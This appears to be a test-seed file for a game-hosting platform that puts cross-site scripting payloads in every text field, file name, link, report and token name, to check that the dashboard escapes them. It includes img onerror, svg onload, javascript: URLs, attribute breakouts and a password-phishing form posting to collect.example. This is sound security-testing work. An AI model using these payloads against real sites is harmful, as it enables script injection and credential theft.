import assert from 'node:assert/strict';
import type { SpaceFields } from '@spaceport/contract/spaces';
import type { CheckReport } from '@spaceport/contract/versions';
import { createTokens } from '../../server/src/accounts/tokens.ts';
import { givenId, type VersionId } from '../../server/src/platform/db/ids.ts';
import { fromJson, toJson } from '../../server/src/platform/db/json.ts';
import { type Files, publishFiles, publishLive } from '../../server/test/files.ts';
import type { TestService } from '../../server/test/service.ts';
import type { SignedUp } from '../../server/test/visitor.ts';
import { creatorWithBrowser } from './dashboard-seed.ts';
import { game } from './seed.ts';

/**
 * Text that ends a tag, an attribute, a title and a script, and runs a script if it is read as markup. It has
 * no characters that change the writing direction, because the service refuses those.
 */
export const hostile = (where: string) => `"'><img src=x onerror=owned()></title></script>${where}`;
const longer = (where: string) =>
  `${hostile(where)}\n<svg onload=owned()>{{owned()}}\${owned()} <a href="javascript:owned()">here</a> &lt;b&gt; %3Cscript%3E`;

/** The longest part of the text that the name of a file may contain. */
export const hostileFile = "sounds/'&amp;`{{owned()}} onerror=owned() javascript%3Aowned().ogg";
export const consoleError = '<script>owned()</script> failed';

const fields: SpaceFields = {
  title: hostile('title'),
  space_type: 'game',
  devices: ['desktop'],
  description: longer('description'),
  engine: hostile('eng'),
  ai_tools: [hostile('ai')],
  models: [hostile('mod')],
  how_made: longer('made'),
  source_url: 'https://elsewhere.example/"onmouseover="owned()',
};
const files: Files = { ...game, [hostileFile]: 'sound' };
/** A game that the check refuses, in a file whose name is hostile too. */
const harmful: Files = {
  ...files,
  "'onerror=owned().html":
    '<!doctype html><title>x</title><form action="https://collect.example/take" method="post"><input type="password"></form>',
};

export interface Hostile {
  readonly viewer: SignedUp;
  readonly slug: string;
  /** The address at which the waiting device is approved. */
  readonly deviceAddress: string;
}

/** Makes a creator who wrote markup and script wherever text can be written. */
export async function seedHostile(service: TestService): Promise<Hostile> {
  const { creator, viewer } = await creatorWithBrowser(service, 'mallory', hostile('name'));
  const { space } = await publishLive(service, creator, files, { fields });
  const { slug } = space;
  const ok = (answer: { status: number; text(): string }) => assert.ok(answer.status < 300, answer.text());
  const links = [
    {
      label: 'lnk"><img src=x onerror=owned()>',
      url: `https://elsewhere.example/?'><script>owned()</script>`,
    },
  ];
  ok(await creator.call('PATCH', `/api/spaces/${slug}`, { page: { links } }));
  const boards = [{ key: 'board', title: hostile('board').slice(0, 60), unit: '<b>m' }];
  ok(await creator.call('PUT', `/api/spaces/${slug}/boards`, { boards }));
  const winnings = {
    stats: [{ key: 'stat', label: hostile('stat').slice(0, 60) }],
    achievements: [
      {
        key: 'won',
        title: hostile('won').slice(0, 60),
        description: hostile('how'),
        icon: 'https://elsewhere.example/"onerror="owned()',
        points: 5,
      },
    ],
  };
  ok(await creator.call('PUT', `/api/spaces/${slug}/achievements`, winnings));
  const { secret } = (await creator.call('POST', `/api/spaces/${slug}/secret`)).json();
  const score = { board: 'board', player: 'mallory', score: 7, meta: { note: longer('meta') } };
  ok(await service.anonymous.call('POST', '/api/v1/scores', score, { authorization: `Bearer ${secret}` }));
  ok(
    await service.anonymous.call('POST', `/api/gallery/${slug}/report`, {
      reason: 'other',
      message: longer('report'),
    }),
  );
  const { version } = await publishFiles(creator, harmful, { space: slug }, { live: true });
  await service.settle();
  await addPageReport(service, givenId('ver', version.id));
  ok(await creator.call('POST', `/api/v1/hosting/versions/${version.id}/review`));

  const { platform } = service.service;
  const tokens = createTokens(platform);
  const { id } = await platform.database.db
    .selectFrom('creators')
    .select('id')
    .where('handle', '=', 'mallory')
    .executeTakeFirstOrThrow();
  await tokens.issue(id, { name: hostile('client') });
  tokens.close();
  const asked = await service.anonymous.call('POST', '/api/agent/login', { client_name: hostile('device') });
  ok(asked);
  return { viewer, slug, deviceAddress: asked.json().verification_uri_complete };
}

/** Writes a page check's report as a browser would give it, because this service has no browser. */
async function addPageReport({ service: { platform } }: TestService, versionId: VersionId): Promise<void> {
  const { db } = platform.database;
  const { report } = await db
    .selectFrom('versions')
    .select('report')
    .where('id', '=', versionId)
    .executeTakeFirstOrThrow();
  const page: CheckReport['page'] = {
    loaded: true,
    blank: false,
    loadMs: 900,
    bytes: 1_000,
    consoleErrors: [consoleError],
    failedRequests: [
      { url: 'https://elsewhere.example/"><img src=x onerror=owned()>', reason: '<i>404</i>' },
    ],
  };
  await db
    .updateTable('versions')
    .set({ report: toJson({ ...(report ? fromJson(report) : { findings: [] }), page }) })
    .where('id', '=', versionId)
    .execute();
}
